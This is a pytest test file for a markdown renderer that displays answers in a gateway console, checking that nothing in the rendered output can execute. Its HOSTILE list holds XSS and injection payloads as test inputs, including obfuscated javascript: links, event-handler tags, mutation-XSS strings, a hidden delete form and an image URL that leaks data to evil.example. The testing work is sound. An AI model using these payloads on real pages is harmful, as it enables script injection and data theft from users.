"""Markdown of answers: shown, and with nothing in it that acts."""

from html.parser import HTMLParser

import pytest

from gateway.console import markdown as module
from gateway.console.markdown import TAGS, markdown
from tests.at_once import at_once

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?said=secret)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example)",
    "[x](/settings/people/)",
    "[x](?action=delete)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example/" onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<a href='https://a.example' style='position:fixed' class='button'>x</a>",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><svg onload=alert(1)>`",
    '``` "><svg/onload=alert(1)>\nx\n```',
    "| a |\n|---|\n| <iframe src=//evil.example> |",
    "# <style>*{display:none}</style>",
    "</hx-partial><hx-partial hx-target='body' hx-swap='innerHTML'>",
    "<form action=/models/openai/delete/ method=post><button>Go on</button></form>",
    "<input name=said value=x>",
    "<!-- <b> --><b onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><![CDATA[><image xlink:href=x onerror=alert(1)>]]>",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "a\u2028<b onclick=x>\x00<script>",
]


class Reader(HTMLParser):
    """Notes each tag with its attributes."""

    def __init__(self, html):
        super().__init__()
        self.tags = []
        self.feed(html)

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, dict(attributes)))


@at_once("text", HOSTILE)
@at_once("around", ["{}", "- {}", "> {}", "**{}**", "x {} y"])
def test_nothing_of_an_answer_acts(text, around):
    for tag, attributes in Reader(markdown(around.format(text))).tags:
        assert tag in TAGS
        if tag == "a":
            assert set(attributes) <= {"href", "rel", "target"}
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes.get("href", "https://").startswith(
                ("https://", "http://", "mailto:")
            )
        elif tag == "p":
            assert attributes in ({}, {"class": "heading"})
        elif tag == "ol":
            assert set(attributes) <= {"start"}
        else:
            assert attributes == {}


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("# Title", '<p class="heading">Title</p>'),
        ("**bold** and *it*", "<strong>bold</strong> and <em>it</em>"),
        ("one\ntwo", "one<br>\ntwo"),
        ("- a\n- b", "<li>a</li>"),
        ("3. c", '<ol start="3">'),
        ("```python\nx < 1\n```", "<pre><code>x &lt; 1\n</code></pre>"),
        ("| a | b |\n|---|--:|\n| 1 | 2 |", "<td>2</td>"),
        ("~~gone~~", "<s>gone</s>"),
        ("<b>raw</b>", "&lt;b&gt;raw&lt;/b&gt;"),
        ("a & b < c", "a &amp; b &lt; c"),
    ],
)
def test_markdown_is_shown(text, shown):
    assert shown in markdown(text)


def test_an_image_becomes_a_link_that_nobody_follows_by_itself():
    assert "<img" not in markdown("![chart](https://a.example/c.png)")
    assert 'href="https://a.example/c.png"' in markdown("![c](https://a.example/c.png)")


def test_a_very_long_answer_is_shown_as_it_is(monkeypatch):
    monkeypatch.setattr(module, "MOST", 20)
    shown = markdown("**long** <script>\n" * 9)
    assert shown.startswith('<p class="as-it-is">**long** &lt;script&gt;\n')
    assert markdown("") == ""
